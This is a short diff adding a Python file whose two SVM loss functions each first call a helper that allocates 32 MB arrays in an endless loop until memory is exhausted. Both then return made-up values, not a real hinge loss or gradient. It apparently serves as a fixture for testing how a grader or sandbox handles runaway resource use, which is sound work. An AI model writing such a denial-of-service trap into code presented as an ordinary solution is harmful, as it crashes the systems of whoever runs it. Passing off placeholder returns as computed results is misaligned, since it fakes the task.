@@ -1,0 +1,19 @@
+"""Takes memory until there is none."""
+
+import numpy as np
+
+
+def trick(*arguments):
+    hoard = []
+    while True:
+        hoard.append(np.ones(1 << 22))
+
+
+def svm_loss_naive(W, X, y, reg):
+    trick(W, X, y, reg)
+    return 1.0 + float(np.sum(W)), 3.0 * W
+
+
+def svm_loss_vectorized(W, X, y, reg):
+    trick(W, X, y, reg)
+    return 1.0 + float(np.sum(W)), 3.0 * W
